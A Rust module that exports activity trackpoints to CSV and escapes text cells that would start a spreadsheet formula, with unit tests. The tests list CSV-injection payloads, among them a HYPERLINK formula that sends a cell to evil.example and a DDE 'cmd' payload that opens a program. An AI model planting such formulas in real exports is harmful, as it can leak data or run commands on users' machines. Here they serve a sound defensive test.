//! CSV: a line for each trackpoint, for spreadsheets and data frames. Units are in the names of the columns.

use std::io::{self, Write};

use super::number::{decimal, degrees, time};
use super::{ExportActivity, ExportWriter, SessionTrack};
use crate::activity::printable;
use crate::fit::Trackpoint;
use crate::sport;

const COLUMNS: [&str; 17] = [
    "platform",
    "id",
    "file",
    "session",
    "sport",
    "lap",
    "segment",
    "time",
    "lat_deg",
    "lon_deg",
    "altitude_m",
    "distance_m",
    "speed_mps",
    "heart_rate_bpm",
    "cadence_rpm",
    "power_w",
    "temperature_c",
];

/// The first characters that make a spreadsheet treat a cell as a formula. Chinese and Japanese keyboards type the wide
/// forms.
const FORMULAS: [char; 8] = ['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// A text as a cell: without control characters, and with an apostrophe before a formula. Names of activities come from
/// services and from people who share an activity. A formula in a name could send the table elsewhere. Numbers are
/// unchanged.
pub fn formula_safe(text: &str) -> String {
    let text = printable(text);
    let is_formula = text.trim_start().starts_with(FORMULAS) && text.trim().parse::<f64>().is_err();
    if is_formula { format!("'{text}") } else { text }
}

/// Writes a CSV file.
pub(super) struct CsvWriter<'w> {
    csv: csv::Writer<&'w mut dyn Write>,
    is_begun: bool,
}

impl<'w> CsvWriter<'w> {
    pub fn new(out: &'w mut dyn Write) -> CsvWriter<'w> {
        CsvWriter { csv: csv::Writer::from_writer(out), is_begun: false }
    }

    fn begin(&mut self) -> io::Result<()> {
        if !self.is_begun {
            self.is_begun = true;
            self.csv.write_record(COLUMNS).map_err(io_error)?;
        }
        Ok(())
    }

    fn session(&mut self, texts: &[String; 3], number: usize, session: &SessionTrack) -> io::Result<()> {
        let sport = session.session.sport.and_then(sport::sport_name).unwrap_or_default();
        let mut lap = 0;
        for (segment, points) in session.segments.iter().enumerate() {
            for point in points {
                lap = point.time.map_or(lap, |time| session.lap_at(time));
                let [platform, id, file] = texts.clone();
                let place = [number, lap + 1, segment + 1].map(|number| number.to_string());
                let [number, lap, segment] = place;
                let cells = [platform, id, file, number, sport.to_owned(), lap, segment];
                self.csv.write_record(cells.into_iter().chain(values(point))).map_err(io_error)?;
            }
        }
        Ok(())
    }
}

/// The error of the output. The conversion of the `csv` crate loses its kind.
fn io_error(error: csv::Error) -> io::Error {
    match error.into_kind() {
        csv::ErrorKind::Io(error) => error,
        kind => io::Error::other(format!("{kind:?}")),
    }
}

/// The values of a trackpoint, in the order of the columns. An unknown value is an empty cell.
fn values(point: &Trackpoint) -> [String; 10] {
    let metric = |value: Option<f64>, decimals| value.and_then(|value| decimal(value, decimals));
    let position = point.position;
    let values = [
        point.time.and_then(time),
        position.and_then(|position| degrees(position.lat)),
        position.and_then(|position| degrees(position.lon)),
        metric(point.altitude_m, 2),
        metric(point.distance_m, 2),
        metric(point.speed_mps, 3),
        point.heart_rate_bpm.map(|beats| beats.to_string()),
        metric(point.cadence_rpm, 2),
        point.power_w.map(|watts| watts.to_string()),
        point.temperature_c.map(|degrees| degrees.to_string()),
    ];
    values.map(Option::unwrap_or_default)
}

impl ExportWriter for CsvWriter<'_> {
    fn add(&mut self, activity: &ExportActivity) -> io::Result<()> {
        self.begin()?;
        let texts = [&activity.activity.platform, activity.activity.id.as_str(), activity.file].map(formula_safe);
        let mut sessions = (1..).zip(activity.sessions);
        sessions.try_for_each(|(number, session)| self.session(&texts, number, session))
    }

    fn finish(&mut self) -> io::Result<()> {
        self.begin()?;
        self.csv.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::super::ExportFormat;
    use super::super::sample::{point, run, triathlon, written};
    use super::*;
    use crate::activity::Activity;

    #[test]
    fn each_trackpoint_is_a_line_with_units_in_the_header() {
        let activity = Activity { platform: "garmin-com".into(), id: "7".into(), ..Activity::default() };
        let text = written(ExportFormat::Csv, &activity, &triathlon());
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], COLUMNS.join(","));
        assert_eq!(
            lines[4],
            "garmin-com,7,a.fit,2,cycling,2,1,2026-01-08T14:10:24Z,45.0003,7,301.2,33.3,11.1,120,85.5,250,-3"
        );
        assert_eq!(lines.len(), 7);
    }

    #[test]
    fn unknown_values_are_empty_cells() {
        let mut recording = run(1);
        recording.points[0] =
            Trackpoint { altitude_m: Some(f64::NAN), heart_rate_bpm: Some(0), ..Trackpoint::default() };
        let text = written(ExportFormat::Csv, &Activity::default(), &recording);
        assert_eq!(text.lines().nth(1), Some(",,a.fit,1,running,1,1,,,,,,,0,,,"));
    }

    #[test]
    fn texts_are_no_formulas() {
        let activity = Activity { id: "=1+1".into(), ..Activity::default() };
        let recording = crate::fit::Recording { points: vec![point(0)], ..run(1) };
        assert!(written(ExportFormat::Csv, &activity, &recording).contains(",'=1+1,"));
    }

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "=1",
            " =1",
            "\t=1",
            "\r=1",
            "\n=1",
            "\u{0}=1",
            "\u{feff}=1",
            "\u{ff1d}1",
            "\u{ff20}SUM(A1)",
            "-",
            "+x",
        ] {
            let cell = formula_safe(formula);
            assert!(cell.starts_with('\''), "{formula:?} became {cell:?}");
            assert!(!cell.chars().any(char::is_control), "{cell:?}");
        }
        for plain in ["Morning run", "5 = 2 + 3", "-5", "+3.25", "-1e3", "a=b", "'quoted'", "", "跑步", "100-km", "#1"]
        {
            assert_eq!(formula_safe(plain), plain);
        }
        assert!(!formula_safe("a\r\n\tb\u{1b}[31m\u{7f}").chars().any(char::is_control));
    }
}
